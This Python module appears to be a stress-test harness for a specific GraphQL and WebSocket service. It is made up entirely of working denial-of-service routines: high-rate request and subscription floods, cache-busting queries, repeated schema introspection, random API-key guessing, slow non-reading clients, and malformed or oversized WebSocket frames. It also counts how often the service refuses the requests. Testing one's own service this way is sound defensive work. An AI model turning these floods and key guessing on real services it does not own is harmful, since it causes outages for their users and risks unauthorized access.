"""Attacks by well-formed calls: too many of them, or costly ones."""

import asyncio
import itertools
import json
import os

from wire import FIRE, REPORT, STATUSES, SUBSCRIBE, UNCOUNTED, counts, discard, frame, again_and_again, portions, text

REFUSED = {"refused": b'"RateLimited"', "full": b'"LimitExceeded"', "answers": b"HTTP/1.1 200"}


async def pipeline(target, rate, request, connections=4):
    """Sends what `request()` returns so many times a second, without waiting for answers."""

    async def session():
        reader, writer = await target.connect()
        reading = asyncio.create_task(discard(reader, REFUSED))
        try:
            async for count in portions(rate / connections, 0.00125 * connections):
                if reading.done():
                    return
                writer.write(b"".join(request() for _ in range(count)))
                counts["asked"] += count
                await writer.drain()
        finally:
            reading.cancel()
            writer.close()

    # One session may last as long as the attack: it has no time limit.
    async def keep():
        while True:
            try:
                await session()
            except OSError as error:
                counts[type(error).__name__] += 1
            await asyncio.sleep(0.05)

    await asyncio.gather(*(keep() for _ in range(connections)))


async def node_flood(target):
    """One node that reports and fires 10,000 times a second."""
    group = await target.group()
    node = {**group, "nodeId": "flood" + os.urandom(4).hex()}
    event = {"eventName": "e", "payload": UNCOUNTED, "firedAt": "2026-01-01T00:00:00.000Z", "orderKey": "1"}
    report = target.post(REPORT, {**node, "data": [{"key": "k", "value": UNCOUNTED}]})
    fire = target.post(FIRE, {**node, "events": [event]})
    both = itertools.cycle([report, fire])
    await pipeline(target, 10_000, lambda: next(both))


async def group_flood(target):
    """Invented nodes that report 5,000 times a second in one group."""
    group = await target.group()
    data = [{"key": "k", "value": UNCOUNTED}]
    requests = itertools.cycle(target.post(REPORT, {**group, "nodeId": f"x{n}", "data": data}) for n in range(2000))
    await pipeline(target, 5_000, lambda: next(requests), connections=16)


async def new_documents(target):
    """Documents that no cache has, 2,000 a second."""
    number = itertools.count()
    salt = os.urandom(4).hex()
    document = lambda: target.post(f"{{ a{salt}{next(number)}: __typename " + "b: __typename " * 30 + "}")
    await pipeline(target, 2_000, document, connections=20)


async def introspection(target):
    """The whole schema, 500 times a second."""
    types = "{ name fields { name args { name type { name ofType { name } } } type { name ofType { name } } } }"
    request = target.post(f"{{ __schema {{ types {types} }} }}")
    await pipeline(target, 500, lambda: request, connections=20)


async def wrong_keys(target):
    """A thousand wrong keys a second, half of them on WebSockets."""

    async def on_socket():
        reader, writer = await target.open_socket(init=False)
        try:
            writer.write(text({"type": "connection_init", "payload": {"x-api-key": os.urandom(9).hex()}}))
            counts["asked"] += 1
            await discard(reader)
        finally:
            writer.close()

    guess = lambda: target.post("{ __typename }", key=os.urandom(9).hex())
    await asyncio.gather(pipeline(target, 500, guess, connections=50), again_and_again(on_socket, 100))


async def new_groups(target):
    """2,000 groups a second, in the class's domain where it is attacked."""
    domain = (target.class_group or {"domain": "attackers"})["domain"]
    number, salt = itertools.count(), os.urandom(4).hex()
    create = (
        "mutation G($hostId: ID!, $domain: String!) "
        '{ createGroup(name: "x", hostId: $hostId, domain: $domain, useWebSocket: true) { id } }'
    )
    request = lambda: target.post(create, {"hostId": f"{salt}{next(number)}", "domain": domain})
    await pipeline(target, 2_000, request, connections=20)


async def lists(target):
    """A list of 700 groups, 1,000 times a second."""
    domain = "attackers"
    for n in range(70):
        fields = " ".join(
            f'a{m}: createGroup(name: "x", hostId: "l{n} {m}", domain: "{domain}", useWebSocket: true) {{ id }}'
            for m in range(10)
        )
        await target.call(f"mutation {{ {fields} }}")
    request = target.post("query L($domain: String!) { listGroupsByDomain(domain: $domain) { id name } }", {"domain": domain})
    await pipeline(target, 1_000, lambda: request, connections=20)


async def unread_answers(target):
    """Twenty connections that ask for four megabytes again and again and read nothing."""
    group = await target.group()
    if not target.class_group:
        for n in range(60):
            data = [{"key": "k", "value": UNCOUNTED + "x" * 60_000}]
            await target.call(REPORT, {**group, "nodeId": f"x{n}", "data": data})
    request = target.post(STATUSES, group)

    async def session():
        _, writer = await target.connect(receive_buffer=4096)
        try:
            writer.write(request * 20)
            counts["asked"] += 20
            await asyncio.sleep(29)
        finally:
            writer.transport.abort()

    await again_and_again(session, 20)


async def start_and_stop(target):
    """Subscriptions that begin and end at once, 4,000 a second on ten WebSockets."""
    group = await target.group()
    start = text({"id": "s", "type": "subscribe", "payload": {"query": SUBSCRIBE, "variables": group}})
    await socket_flood(target, 4_000, start + text({"id": "s", "type": "complete"}))


async def pings(target):
    """20,000 pings a second on ten WebSockets, of the protocol and of its messages."""
    await socket_flood(target, 20_000, frame(9, b"x") + text({"type": "ping"}))


async def socket_flood(target, rate, messages, sockets=10):
    """Sends the messages so many times a second over WebSockets, and reads what comes."""

    async def session():
        reader, writer = await target.open_socket()
        reading = asyncio.create_task(discard(reader, {"refused": b"RateLimited"}))
        try:
            async for count in portions(rate / sockets):
                if reading.done():
                    return
                writer.write(messages * count)
                counts["asked"] += count
                await asyncio.wait_for(writer.drain(), 30)
        finally:
            reading.cancel()
            writer.transport.abort()

    await again_and_again(session, sockets)


async def slow_readers(target):
    """Up to 300 subscribers that read nothing, while large events are fired at them."""
    group = await target.group()
    start = text({"id": "s", "type": "subscribe", "payload": {"query": SUBSCRIBE, "variables": group}})
    size = 20_000 if target.class_group else 200_000
    event = {"eventName": "e", "firedAt": "2026-01-01T00:00:00.000Z", "orderKey": "1"}
    event["payload"] = UNCOUNTED + "x" * size
    fire = target.post(FIRE, {**group, "nodeId": "slow", "events": [event]})

    async def reader_that_does_not_read():
        _, writer = await target.open_socket(receive_buffer=4096)
        try:
            writer.write(start)
            await asyncio.sleep(29)
        finally:
            writer.transport.abort()

    await asyncio.gather(
        again_and_again(reader_that_does_not_read, 100 if target.class_group else 300),
        pipeline(target, 5, lambda: fire, connections=1),
    )


async def half_messages(target):
    """WebSocket messages that are too long, in a thousand pieces, never finished, or broken."""
    million = 1 << 20
    ping = json.dumps({"type": "ping"}).encode()
    broken = [
        frame(1, b"x" * 300_000),
        frame(1, length=1 << 62) + b"x" * 1000,
        frame(1, b"", final=False) + frame(0, b" ", final=False) * 3000 + frame(0, ping),
        (frame(1, b"", final=False) + frame(0, b"", final=False) * 20_000),
        frame(1, b"x", final=False) + frame(9, b"y") * 200 + frame(1, b"z"),
        frame(9, b"x" * 126),
        frame(1, b"\xff\xfe"),
        frame(3, b""),
        b"\x81\x05hello",
        frame(8, b"\x00"),
        frame(1, length=million) + b"x" * 100_000,
    ]
    number = itertools.count()

    async def session():
        reader, writer = await target.open_socket()
        try:
            writer.write(broken[next(number) % len(broken)])
            counts["asked"] += 1
            await asyncio.wait_for(discard(reader, {"closed with a code": b"\x88"}), 2)
        finally:
            writer.transport.abort()

    await again_and_again(session, 40)
